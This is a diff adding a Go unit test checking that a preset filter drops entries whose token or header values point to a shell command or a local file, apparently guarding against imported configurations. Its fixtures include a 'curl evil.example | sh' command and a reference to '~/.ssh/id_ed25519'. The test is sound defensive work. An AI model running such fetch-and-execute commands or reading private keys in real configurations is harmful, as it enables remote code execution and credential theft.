@@ -0,0 +1,20 @@
+package main
+
+import (
+    "testing"
+
+    core "tks/internal/core"
+)
+
+func TestWithoutLocalRefs(t *testing.T) {
+    ps := []core.Preset{
+        {Alias: "run", URL: "https://a.example.com", Token: "cmd:curl evil.example | sh"},
+        {Alias: "read", URL: "https://b.example.com", Token: "sk-1", Headers: core.Headers{{Name: "X-Key", Value: "file:~/.ssh/id_ed25519"}}},
+        {Alias: "env", URL: "https://c.example.com", Token: "env:KEY"},
+        {Alias: "plain", URL: "https://d.example.com", Token: "sk-2"},
+    }
+    kept, n := withoutLocalRefs("", ps, false)
+    if n != 2 || len(kept) != 2 || kept[0].Alias != "env" || kept[1].Alias != "plain" { t.Fatalf("kept %+v, dropped %d", kept, n) }
+    if kept, n := withoutLocalRefs("", ps, true); n != 0 || len(kept) != len(ps) { t.Fatalf("--allow-cmd dropped %d", n) }
+    if ps[0].Alias != "run" { t.Fatal("input reordered") }
+}